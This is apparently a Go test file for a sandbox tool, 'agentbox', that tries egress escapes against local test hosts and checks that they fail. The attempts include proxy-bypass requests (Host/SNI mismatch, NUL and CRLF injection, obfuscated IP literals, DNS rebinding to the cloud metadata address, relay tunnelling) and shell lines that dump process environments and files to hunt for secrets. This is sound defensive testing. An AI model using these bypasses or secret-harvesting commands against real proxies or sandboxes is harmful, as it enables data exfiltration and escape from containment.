package attack

import (
	"fmt"
	"net"
	"net/netip"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/agentbox/agentbox/internal/testenv/nethost"
)

// netHost is a test host for the egress attacks: an origin that answers to
// origin.test (allowed) and other.test (pinned, not allowed), plus a TCP port
// and UDP port 53 that count whatever reaches them directly.
type netHost struct {
	h    *nethost.Host
	o    *nethost.Origin
	tcp  netip.AddrPort // a raw TCP listener
	udp  netip.AddrPort // port 53: "DNS"
	mu   sync.Mutex
	seen []string // what reached tcp or udp
}

func newNetHost(t *testing.T) *netHost {
	t.Helper()
	n := &netHost{h: nethost.New(t)}
	n.o = nethost.StartOrigin(t, n.h, "origin.test", "other.test")
	l, err := n.h.Listen(0)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	n.tcp = l.Addr().(*net.TCPAddr).AddrPort()
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			n.record("tcp from " + c.RemoteAddr().String())
			c.Close()
		}
	}()
	var pc net.PacketConn
	n.h.Do(func() { pc, err = net.ListenPacket("udp", netip.AddrPortFrom(n.h.Addr, 53).String()) })
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { pc.Close() })
	n.udp = pc.LocalAddr().(*net.UDPAddr).AddrPort()
	go func() {
		buf := make([]byte, 512)
		for {
			k, from, err := pc.ReadFrom(buf)
			if err != nil {
				return
			}
			n.record(fmt.Sprintf("udp %q from %s", buf[:k], from))
		}
	}()
	return n
}

func (n *netHost) record(s string) {
	n.mu.Lock()
	n.seen = append(n.seen, s)
	n.mu.Unlock()
}

func (n *netHost) reached() []string {
	n.mu.Lock()
	defer n.mu.Unlock()
	return append([]string(nil), n.seen...)
}

// waitReached returns what reached the host once it is at least k things, or
// after a minute (an accept or a read may lag behind the attempt under load).
func (n *netHost) waitReached(k int) []string {
	for range 600 {
		if got := n.reached(); len(got) >= k {
			return got
		}
		time.Sleep(100 * time.Millisecond)
	}
	return n.reached()
}

// paths are the paths the origin received requests for, with their Host.
func (n *netHost) paths() map[string]string {
	m := map[string]string{}
	for _, r := range n.o.Requests() {
		m[r.Path] = r.Host
	}
	return m
}

// flags are run's network flags for this host: origin.test allowed; other.test,
// rebind.test (pinned to 127.0.0.1) and meta.test (169.254.169.254) pinned, the
// last two allowed too. The host's /30 is opened with --allow-private.
func (n *netHost) flags(extra ...string) []string {
	a := n.h.Addr.String()
	return append([]string{
		"--allow-host", "origin.test", "--allow-host", "rebind.test", "--allow-host", "meta.test",
		"--allow-private", n.h.Prefix.String(),
		"--dns-override", "origin.test=" + a, "--dns-override", "other.test=" + a,
		"--dns-override", "rebind.test=127.0.0.1", "--dns-override", "meta.test=169.254.169.254",
	}, extra...)
}

// lit is s as the body of a Go string literal, the form the attacker's requests take.
func lit(s string) string {
	q := strconv.Quote(s)
	return q[1 : len(q)-1]
}

// shQuote quotes s for sh.
func shQuote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

// attackLine is fx.attack as one shell line.
func (fx *fixture) attackLine(vector string, args ...string) string {
	var b strings.Builder
	for i, a := range fx.attack(vector, args...) {
		if i > 0 {
			b.WriteByte(' ')
		}
		b.WriteString(shQuote(a))
	}
	return b.String()
}

// shTry is a shell line that runs cmd and reports it the attacker's way, as the
// attempt sh:NAME: ok with its output, or fail EXIT<status>.
func shTry(name, cmd string) string {
	return fmt.Sprintf(`out=$( (%s) 2>&1); rc=$?; if [ $rc = 0 ]; then printf 'RESULT sh:%s ok "%%s"\n' "$(printf '%%s' "$out" | tr -d '"\\' | tr '\n' ' ' | head -c 300)"; else echo "RESULT sh:%s fail EXIT$rc"; printf '%%s\n' "$out" | head -3 >&2; fi`,
		cmd, name, name)
}

// script joins shell lines into one command.
func script(lines ...string) []string {
	return []string{"/bin/sh", "-c", strings.Join(lines, "\n")}
}

// TestEscape_EgressKernel (ANCHORS vector 16; issue 14, "kernel first"): a sandbox
// with an allowlist has a proxy and still no route out. With the proxy variables
// unset or ignored, nothing reaches the test host: a raw TCP connect by address,
// IPv4-mapped, curl --noproxy '*' by name and by address, a datagram to its DNS
// port, IPv6 (documentation prefix), ping; DNS inside resolves nothing; the
// sandbox has only lo and cannot add a route, an address or a link (no netlink:
// the socket family rule; no CAP_NET_ADMIN), nor open raw or packet sockets. The
// control runs the raw attempts on the host, where the test host is reachable.
func TestEscape_EgressKernel(t *testing.T) {
	t.Parallel()
	requireSandbox(t)
	n := newNetHost(t)
	mapped := "tcp:[::ffff:" + n.tcp.Addr().String() + "]:" + strconv.Itoa(int(n.tcp.Port()))
	raw := func(fx *fixture) []string {
		return []string{"tcp:" + n.tcp.String(), mapped, "udp:" + n.udp.String() + ":" + fx.tag}
	}
	rawNames := []string{"tcp:" + n.tcp.String(), mapped, "udp:" + n.udp.String()}
	t.Run("control", func(t *testing.T) {
		requireAttacker(t)
		fx := newFixture(t)
		at := fx.direct(0, nil, append([]string{"net"}, raw(fx)...)...)
		at.mustSucceed(t, "control: the test host is reachable from the host", rawNames...)
		if got := n.waitReached(2); len(got) < 2 {
			t.Errorf("control: the test host saw %q, want the TCP connection and the datagram", got)
		}
	})
	t.Run("sandbox", func(t *testing.T) {
		fx := newFixture(t)
		before := len(n.reached())
		o := n.o
		hp := o.HTTP.String()
		port := strconv.Itoa(int(o.HTTP.Port()))
		netSpecs := append([]string{"ifaces", "icmp-raw", "icmp6-raw", "icmp-dgram", "packet", "netlink",
			"tcp:[2001:db8::1]:80", "tcp:192.0.2.1:80", "udp:[2001:db8::1]:53:" + fx.tag}, raw(fx)...)
		r := fx.run(boxOpts{flags: n.flags(), cmd: script(
			fx.attackLine("net", netSpecs...),
			fx.attackLine("proxy", "resolve:origin.test", "resolve:localhost"),
			shTry("noproxy-name", "curl -sS --max-time 10 --noproxy '*' http://origin.test:"+port+"/noproxy-name"),
			shTry("noproxy-addr", "curl -sS --max-time 10 --noproxy '*' http://"+hp+"/noproxy-addr"),
			shTry("unset-addr", "env -u HTTP_PROXY -u http_proxy -u ALL_PROXY -u all_proxy curl -sS --max-time 10 http://"+hp+"/unset-addr"),
			shTry("getent", "getent hosts origin.test"),
			shTry("ping", "ping -c 1 -W 2 "+n.h.Addr.String()),
			shTry("ip-route", "ip route add 192.0.2.0/24 dev lo"),
			shTry("ip-addr", "ip addr add 192.0.2.9/32 dev lo"),
			shTry("ip-link", "ip link add agbxdummy type dummy"),
			shTry("proxied", "curl -sS --max-time 30 http://origin.test:"+port+"/proxied"),
		)})
		at := r.at
		at.mustBeDone(t, "net")
		at.mustBeDone(t, "proxy")
		if a, ok := at.get(t, "ifaces"); ok && strings.TrimSpace(a.detail) != "lo" {
			t.Errorf("ESCAPE network: interfaces %q in a sandbox with egress (want only lo)", a.detail)
		}
		at.mustFailWith(t, "no route out", []string{"ENETUNREACH"},
			append(rawNames, "tcp:[2001:db8::1]:80", "tcp:192.0.2.1:80", "udp:[2001:db8::1]:53")...)
		at.mustFailWith(t, "raw and packet sockets", []string{"EPERM", "EACCES", "EAFNOSUPPORT"}, "icmp-raw", "icmp6-raw", "icmp-dgram")
		at.mustFailWith(t, "socket family deny-list", []string{"EAFNOSUPPORT"}, "packet", "netlink")
		at.mustFail(t, "DNS inside resolves nothing", "resolve:origin.test")
		at.mustSucceed(t, "localhost stays resolvable (/etc/hosts)", "resolve:localhost")
		at.mustFailWith(t, "curl --noproxy by name: nothing resolves it", []string{"EXIT6"}, "sh:noproxy-name")
		at.mustFailWith(t, "curl without the proxy: no route", []string{"EXIT7"}, "sh:noproxy-addr", "sh:unset-addr")
		at.mustFail(t, "DNS inside resolves nothing", "sh:getent")
		at.mustFail(t, "ping", "sh:ping")
		at.mustFail(t, "change the sandbox's routes, addresses or links", "sh:ip-route", "sh:ip-addr", "sh:ip-link")
		// The control inside: the proxy works, so the failures above are the
		// kernel's, not a broken network.
		at.mustSucceed(t, "through the proxy", "sh:proxied")
		time.Sleep(200 * time.Millisecond) // late packets
		if got := n.reached()[before:]; len(got) > 0 {
			t.Errorf("ESCAPE network: the test host was reached directly: %q", got)
		}
		got := n.paths()
		if len(got) != 1 || got["/proxied"] == "" {
			t.Errorf("ESCAPE network: the origin received %v, want only /proxied", got)
		}
		fx.verifyHost(r)
	})
}

// TestEscape_EgressProxyBypass (ANCHORS vector 16; issue 14): the known failures of
// peers' proxies, sent byte for byte from inside a sandbox to its proxy: another
// name by CONNECT and by plain HTTP (a peer filtered only CONNECT), Host against URI
// against SNI, NUL (a peer's SOCKS5 endsWith bug), CR/LF, userinfo, a look-alike
// Unicode name, IP literals in decimal, octal, hex and IPv4-mapped form, the proxy
// itself, names pinned to loopback and to the metadata address (rebinding), SOCKS5,
// and all of it again through a relay inside the sandbox (a peer's allowlist fell
// to an in-sandbox relayed CONNECT). Only the allowed requests reach the origin;
// every refusal is in the run's network log with its reason.
func TestEscape_EgressProxyBypass(t *testing.T) {
	t.Parallel()
	requireSandbox(t)
	n := newNetHost(t)
	fx := newFixture(t)
	o := n.o
	p, ps := strconv.Itoa(int(o.HTTP.Port())), strconv.Itoa(int(o.HTTPS.Port()))
	a4 := o.HTTP.Addr().As4()
	ip := o.HTTP.Addr().String()
	decimal := strconv.FormatUint(uint64(a4[0])<<24|uint64(a4[1])<<16|uint64(a4[2])<<8|uint64(a4[3]), 10)
	octal := fmt.Sprintf("0%o.0%o.0%o.0%o", a4[0], a4[1], a4[2], a4[3])
	hex := fmt.Sprintf("0x%02x%02x%02x%02x", a4[0], a4[1], a4[2], a4[3])
	get := func(target, host string) string {
		return lit("GET " + target + " HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\n\r\n")
	}
	plain := func(name, path string) string { return name + "." + "test:" + p + path }
	// want: attempt → the status and reason it must get (prefix of the detail).
	type want struct{ spec, name, detail string }
	cases := []want{
		{"raw:allowed:" + get("http://"+plain("origin", "/allowed"), "origin.test:"+p), "raw:allowed", "200  origin origin.test:" + p + " /allowed"},
		{"raw:other:" + get("http://"+plain("other", "/other-plain"), "other.test:"+p), "raw:other", "403 not_allowed"},
		{"raw:host-header:" + get("http://"+plain("origin", "/host-header"), "other.test:"+p), "raw:host-header", "403 host_mismatch"},
		{"raw:origin-form:" + get("/origin-form", "origin.test:"+p), "raw:origin-form", "400 bad_request"},
		{"raw:nul:" + get("http://origin.test\x00.other.test:"+p+"/nul", "origin.test:"+p), "raw:nul", "400"},
		{"raw:crlf:" + get("http://origin.test%0d%0a.x:"+p+"/crlf", "origin.test:"+p), "raw:crlf", "400"},
		{"raw:userinfo:" + get("http://origin.test:"+p+"@other.test:"+p+"/userinfo", "other.test:"+p), "raw:userinfo", "40"},
		{"raw:trailing-dot:" + get("http://origin.test.:"+p+"/trailing-dot", "origin.test.:"+p), "raw:trailing-dot", "200"},
		{"raw:other-dot:" + get("http://other.test.:"+p+"/other-dot", "other.test.:"+p), "raw:other-dot", "403 not_allowed"},
		{"raw:lookalike:" + get("http://\u043erigin.test:"+p+"/lookalike", "\u043erigin.test:"+p), "raw:lookalike", "403 not_allowed"},
		{"raw:punycode:" + get("http://xn--rigin-3ve.test:"+p+"/punycode", "xn--rigin-3ve.test:"+p), "raw:punycode", "403 not_allowed"},
		{"raw:ip:" + get("http://"+ip+":"+p+"/ip", ip+":"+p), "raw:ip", "400 ip_literal"},
		{"raw:decimal:" + get("http://"+decimal+":"+p+"/decimal", decimal+":"+p), "raw:decimal", "400 ip_literal"},
		{"raw:octal:" + get("http://"+octal+":"+p+"/octal", octal+":"+p), "raw:octal", "400 ip_literal"},
		{"raw:hex:" + get("http://"+hex+":"+p+"/hex", hex+":"+p), "raw:hex", "400 ip_literal"},
		{"raw:mapped:" + get("http://[::ffff:"+ip+"]:"+p+"/mapped", "[::ffff:"+ip+"]:"+p), "raw:mapped", "400 ip_literal"},
		{"raw:itself:" + get("http://127.0.0.1:3128/itself", "127.0.0.1:3128"), "raw:itself", "400 ip_literal"},
		{"raw:rebind:" + get("http://rebind.test:"+p+"/rebind", "rebind.test:"+p), "raw:rebind", "403 address_refused"},
		{"raw:metadata:" + get("http://meta.test/latest/meta-data/", "meta.test"), "raw:metadata", "403 address_refused"},
		{"raw:connect-other:" + lit("CONNECT other.test:"+ps+" HTTP/1.1\r\nHost: other.test:"+ps+"\r\n\r\n"), "raw:connect-other", "403 not_allowed"},
		{"raw:connect-ip:" + lit("CONNECT "+ip+":"+ps+" HTTP/1.1\r\nHost: "+ip+":"+ps+"\r\n\r\n"), "raw:connect-ip", "400 ip_literal"},
		{"raw:connect-host:" + lit("CONNECT origin.test:"+ps+" HTTP/1.1\r\nHost: other.test:"+ps+"\r\n\r\n"), "raw:connect-host", "403 host_mismatch"},
		// Plain HTTP inside a tunnel, where the proxy would see no Host: the tunnel
		// is opened (200), then cut before a byte goes on.
		{"raw:tunnel-plain:" + lit("CONNECT origin.test:"+ps+" HTTP/1.1\r\nHost: origin.test:"+ps+"\r\n\r\n"+
			"GET /tunnel-plain HTTP/1.1\r\nHost: other.test\r\n\r\n"), "raw:tunnel-plain", "200"},
		{`raw:socks5:\x05\x01\x00\x05\x01\x00\x03\x0borigin.test\x00P`, "raw:socks5", "400 bad_request"},
	}
	tlsReq := func(path, host string) string {
		return lit("GET " + path + " HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\n\r\n")
	}
	tlsCases := []struct{ spec, name, detail string }{
		{"tls:allowed:origin.test:" + ps + ",origin.test," + tlsReq("/tls-allowed", "origin.test:"+ps), "tls:allowed", "200  origin origin.test:" + ps + " /tls-allowed"},
		{"tls:other:other.test:" + ps + ",other.test," + tlsReq("/tls-other", "other.test:"+ps), "tls:other", "PROXY_403_not_allowed"},
		{"tls:sni:origin.test:" + ps + ",other.test," + tlsReq("/tls-sni", "other.test:"+ps), "tls:sni", "TLS_"},
		{"tls:no-sni:origin.test:" + ps + ",," + tlsReq("/tls-no-sni", "origin.test:"+ps), "tls:no-sni", "TLS_"},
	}
	var specs []string
	for _, c := range cases {
		specs = append(specs, c.spec)
	}
	for _, c := range tlsCases {
		specs = append(specs, c.spec)
	}
	// The same through a relay inside the sandbox, listening on 127.0.0.1:18080.
	var relayed []string
	for _, s := range specs {
		kind, rest, _ := strings.Cut(s, ":")
		relayed = append(relayed, kind+":relay-"+rest)
	}
	args := append(append(append([]string{}, specs...), "relay:18080"), relayed...)
	r := fx.run(boxOpts{flags: n.flags(), cmd: fx.attack("proxy", args...)})
	r.at.mustBeDone(t, "proxy")
	r.at.mustSucceed(t, "the relay listens inside", "relay:18080")
	check := func(name, detail string) {
		t.Helper()
		for _, nm := range []string{name, strings.Replace(name, ":", ":relay-", 1)} {
			at, ok := r.at.get(t, nm)
			switch {
			case !ok:
			case strings.HasPrefix(detail, "PROXY_") || strings.HasPrefix(detail, "TLS_"):
				if at.ok || !strings.HasPrefix(at.detail, detail) {
					t.Errorf("ESCAPE egress: %s: %v, want a failure %s…", nm, at, detail)
				}
			case !at.ok || !strings.HasPrefix(at.detail, detail):
				t.Errorf("ESCAPE egress: %s: %v, want %q…", nm, at, detail)
			}
		}
	}
	for _, c := range cases {
		check(c.name, c.detail)
	}
	for _, c := range tlsCases {
		check(c.name, c.detail)
	}
	got := n.paths()
	for path := range got {
		switch path {
		case "/allowed", "/trailing-dot", "/tls-allowed":
		default:
			t.Errorf("ESCAPE egress: the origin received %s (Host %s)", path, got[path])
		}
	}
	for _, path := range []string{"/allowed", "/trailing-dot", "/tls-allowed"} {
		if got[path] == "" {
			t.Errorf("the origin did not receive the allowed %s: %v", path, got)
		}
	}
	// Every refusal is on the record, with its reason.
	reasons := map[string]int{}
	for _, e := range r.res.Network {
		if e.Decision == "deny" {
			reasons[e.Reason]++
		}
	}
	for _, reason := range []string{"not_allowed", "host_mismatch", "bad_request", "ip_literal", "address_refused", "sni_mismatch", "no_sni", "not_tls"} {
		if reasons[reason] < 2 { // once directly, once through the relay
			t.Errorf("the network log has %d refusals for %s, want 2 or more: %v", reasons[reason], reason, reasons)
		}
	}
	fx.verifyHost(r)
}

// TestEscape_EgressSecret (issue 14, "secrets at egress"): agentbox holds a secret
// (--secret TOKEN@origin.test, its value in agentbox's own $TOKEN). The sandbox
// gets a placeholder: it sends it to origin.test over HTTPS and the origin receives
// the value; toward a host that is not allowed, over plain HTTP, and in a URL to
// other.test (allowed too) it is refused and recorded, and nothing reaches the
// origin. Inside an end-to-end tunnel to other.test the proxy cannot see it: there
// the origin receives the placeholder, never the value. The value is
// nowhere the sandbox can read: its environment, every process's environ and
// cmdline, its /etc, /tmp, /dev/shm and workspace are dumped to the output, which,
// like the run's JSON with its network log, must not hold it (verifyHost).
func TestEscape_EgressSecret(t *testing.T) {
	t.Parallel()
	requireSandbox(t)
	n := newNetHost(t)
	fx := newFixture(t)
	value := plantSecret(fx)
	o := n.o
	p, ps := strconv.Itoa(int(o.HTTP.Port())), strconv.Itoa(int(o.HTTPS.Port()))
	// agentbox verifies the origin's certificate when it intercepts: the test CA
	// is its system pool.
	caFile := filepath.Join(fx.dir, "origin-ca.pem")
	if err := os.WriteFile(caFile, o.CAPEM, 0o644); err != nil {
		t.Fatal(err)
	}
	req := func(path, host string) string {
		return lit("GET " + path + " HTTP/1.1\r\nHost: " + host + "\r\nAuthorization: Bearer ${TOKEN}\r\nConnection: close\r\n\r\n")
	}
	r := fx.run(boxOpts{
		flags: n.flags("--allow-host", "other.test", "--secret", "TOKEN@origin.test"),
		env:   []string{"TOKEN=" + value, "SSL_CERT_FILE=" + caFile},
		cmd: script(
			fx.attackLine("env"),
			fx.attackLine("proxy",
				"tls:secret-allowed:origin.test:"+ps+",origin.test,"+req("/secret-allowed", "origin.test:"+ps),
				"tls:secret-other:other.test:"+ps+",other.test,"+req("/secret-other", "other.test:"+ps),
				"tls:secret-refused:unlisted.test:"+ps+",unlisted.test,"+req("/secret-refused", "unlisted.test:"+ps),
				"raw:secret-plain:"+lit("GET http://origin.test:"+p+"/secret-plain HTTP/1.1\r\nHost: origin.test:"+p+"\r\nAuthorization: Bearer ${TOKEN}\r\n\r\n"),
				"raw:secret-query:"+lit("GET http://other.test:"+p+"/q?t=${TOKEN} HTTP/1.1\r\nHost: other.test:"+p+"\r\n\r\n")),
			"cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n'",
			"find /etc /tmp /dev/shm /workspace -xdev -type f ! -name attacker -size -2M -readable -exec cat {} + 2>/dev/null",
		),
	})
	at := r.at
	at.mustBeDone(t, "env")
	at.mustBeDone(t, "proxy")
	if e, ok := at.get(t, "env:TOKEN"); ok && (!e.ok || !strings.HasPrefix(e.detail, "agentbox-secret-TOKEN-")) {
		t.Errorf("the sandbox's $TOKEN is %v, want its placeholder", e)
	}
	if e, ok := at.get(t, "tls:secret-allowed"); ok && (!e.ok || !strings.HasPrefix(e.detail, "200")) {
		t.Errorf("the placeholder toward the secret's host: %v, want 200", e)
	}
	at.mustFailWith(t, "a placeholder toward a refused host", []string{"PROXY_403_not_allowed"}, "tls:secret-refused")
	for name, reason := range map[string]string{"raw:secret-plain": "403 secret_plain_http", "raw:secret-query": "403 secret_elsewhere"} {
		if e, ok := at.get(t, name); ok && (!e.ok || !strings.HasPrefix(e.detail, reason)) {
			t.Errorf("%s: %v, want %s", name, e, reason)
		}
	}
	var auth, other string
	for _, rq := range o.Requests() {
		switch rq.Path {
		case "/secret-allowed":
			auth = rq.Header.Get("Authorization")
		case "/secret-other":
			other = rq.Header.Get("Authorization")
		default:
			t.Errorf("ESCAPE secret: the origin received %s with Authorization %q", rq.Path, rq.Header.Get("Authorization"))
		}
	}
	if auth != "Bearer "+value {
		t.Errorf("the secret's host received Authorization %q, want the secret's value", auth)
	}
	if !strings.HasPrefix(other, "Bearer agentbox-secret-TOKEN-") {
		t.Errorf("other.test received Authorization %q through its end-to-end tunnel, want the placeholder", other)
	}
	reasons := map[string]bool{}
	for _, e := range r.res.Network {
		reasons[e.Reason] = true
	}
	for _, reason := range []string{"secret_elsewhere", "secret_plain_http", "not_allowed"} {
		if !reasons[reason] {
			t.Errorf("the network log lacks a %s refusal: %+v", reason, r.res.Network)
		}
	}
	if !strings.Contains(r.res.Stdout, "BEGIN CERTIFICATE") || !strings.Contains(r.res.Stdout, "agentbox-secret-TOKEN-") {
		t.Errorf("the dump of what the sandbox can read is missing (no trust store, no placeholder): the check below would prove nothing")
	}
	fx.verifyHost(r) // the value in none of agentbox's output, the JSON and network log included
}

// plantSecret makes the fixture's secret one a proxy accepts as a value (the
// fixture's own begins like a placeholder, which egress refuses as a value) and
// returns it: verifyHost then looks for it in everything the run produced.
func plantSecret(fx *fixture) string {
	fx.secret = "egress-real-" + randHex(16)
	return fx.secret
}

// TestEgressNPMInstall (issue 14: a package manager through the proxy): npm installs
// a package from a registry on a test host, inside `agentbox run --allow-host`,
// over HTTPS through the proxy; the registry demands a token the sandbox holds
// only as a placeholder. The installed module is in the diff; the token in
// nothing agentbox printed.
func TestEgressNPMInstall(t *testing.T) {
	t.Parallel()
	requireSandbox(t)
	if _, err := os.Stat("/usr/bin/npm"); err != nil {
		t.Skip("needs npm at /usr/bin/npm")
	}
	n := newNetHost(t)
	fx := newFixture(t)
	value := plantSecret(fx)
	reg := n.o.ServeNPM("origin.test", "agentbox-egress-demo", "fetched through the egress proxy", value)
	caFile := filepath.Join(fx.dir, "origin-ca.pem")
	os.WriteFile(caFile, n.o.CAPEM, 0o644)
	os.WriteFile(filepath.Join(fx.ws, "package.json"), []byte(`{"name":"demo","version":"0.0.0","private":true}`), 0o644)
	os.WriteFile(filepath.Join(fx.ws, ".npmrc"), []byte("registry="+reg.Registry+"/\n"+reg.AuthKey+"=${NPM_TOKEN}\nupdate-notifier=false\nfetch-retries=0\naudit=false\nfund=false\n"), 0o644)
	r := fx.run(boxOpts{
		flags:   n.flags("--secret", "NPM_TOKEN@origin.test", "--timeout", "3m"),
		env:     []string{"NPM_TOKEN=" + value, "SSL_CERT_FILE=" + caFile},
		diffOut: true,
		cmd:     []string{"/bin/sh", "-c", "cd /workspace && npm install " + reg.Name + " && node -e 'console.log(require(\"" + reg.Name + "\"))'"},
	})
	if r.res.ExitCode != 0 {
		t.Fatalf("npm install in the sandbox: exit %d\nstdout: %s\nstderr: %s\nnetwork: %+v", r.res.ExitCode, r.res.Stdout, r.res.Stderr, r.res.Network)
	}
	if !strings.Contains(r.res.Stdout, "fetched through the egress proxy") {
		t.Errorf("the module did not load: %s", r.res.Stdout)
	}
	if !strings.Contains(r.diff, "+++ b/node_modules/"+reg.Name+"/index.js") {
		t.Errorf("the diff lacks the installed module:\n%.2000s", r.diff)
	}
	for _, e := range r.res.Network {
		if e.Decision != "allow" || e.Host != "origin.test" {
			t.Errorf("unexpected connection %+v", e)
		}
	}
	fx.verifyHost(r)
}

// TestEscape_EgressSettings (issue 14: in a peer, editing unrelated settings made the
// filter fail open): the allowlist holds whatever else the run is given. With
// --write, with the sandbox's proxy variables pointed at the test host and
// NO_PROXY=* (--env), and with --allow-private 0.0.0.0/0 and ::/0, the sandbox still
// reaches origin.test through its proxy and nothing else: not other.test, not the
// names pinned to loopback and the metadata address (rebinding; those stay refused
// inside any AllowPrivate), not the test host directly.
func TestEscape_EgressSettings(t *testing.T) {
	t.Parallel()
	requireSandbox(t)
	n := newNetHost(t)
	p := strconv.Itoa(int(n.o.HTTP.Port()))
	tcp := "http://" + n.tcp.String()
	for _, tc := range []struct {
		name  string
		flags []string
	}{
		{"write", []string{"--write"}},
		{"env", []string{"--env", "HTTP_PROXY=" + tcp, "--env", "http_proxy=" + tcp, "--env", "HTTPS_PROXY=" + tcp,
			"--env", "ALL_PROXY=" + tcp, "--env", "NO_PROXY=*", "--env", "no_proxy=*"}},
		{"private-all", []string{"--allow-private", "0.0.0.0/0", "--allow-private", "::/0"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			fx := newFixture(t)
			before := len(n.reached())
			r := fx.run(boxOpts{flags: n.flags(tc.flags...), cmd: script(
				shTry("env", `echo "$HTTP_PROXY $NO_PROXY"`),
				shTry("proxied", "curl -sSf --max-time 30 http://origin.test:"+p+"/"+tc.name),
				shTry("other", "curl -sSf --max-time 30 http://other.test:"+p+"/other-"+tc.name),
				shTry("rebind", "curl -sSf --max-time 30 http://rebind.test:"+p+"/rebind-"+tc.name),
				shTry("meta", "curl -sSf --max-time 30 http://meta.test/latest/meta-data/"),
				shTry("direct", "curl -sS --max-time 10 --noproxy '*' http://"+n.o.HTTP.String()+"/direct-"+tc.name),
				fx.attackLine("net", "tcp:"+n.tcp.String()),
			)})
			at := r.at
			at.mustBeDone(t, "net")
			if e, ok := at.get(t, "sh:env"); ok && e.detail != "http://127.0.0.1:3128 localhost,127.0.0.1,::1" {
				t.Errorf("the sandbox's proxy variables are %q, want agentbox's", e.detail)
			}
			at.mustSucceed(t, "the allowed host through the proxy", "sh:proxied")
			at.mustFailWith(t, "refused by the proxy (HTTP 403)", []string{"EXIT22"}, "sh:other", "sh:rebind", "sh:meta")
			at.mustFailWith(t, "no route but the proxy", []string{"EXIT7"}, "sh:direct")
			at.mustFailWith(t, "no route but the proxy", []string{"ENETUNREACH"}, "tcp:"+n.tcp.String())
			reasons := map[string]int{}
			for _, e := range r.res.Network {
				reasons[e.Host+" "+e.Decision+" "+e.Reason]++
			}
			for _, want := range []string{"origin.test allow ", "other.test deny not_allowed", "rebind.test deny address_refused", "meta.test deny address_refused"} {
				if reasons[want] != 1 {
					t.Errorf("the network log has %d of %q, want 1: %v", reasons[want], want, reasons)
				}
			}
			if got := n.reached()[before:]; len(got) > 0 {
				t.Errorf("ESCAPE network: the test host was reached directly: %q", got)
			}
			for path := range n.paths() {
				if strings.HasSuffix(path, tc.name) && path != "/"+tc.name {
					t.Errorf("ESCAPE egress: the origin received %s", path)
				}
			}
			fx.verifyHost(r)
		})
	}
}
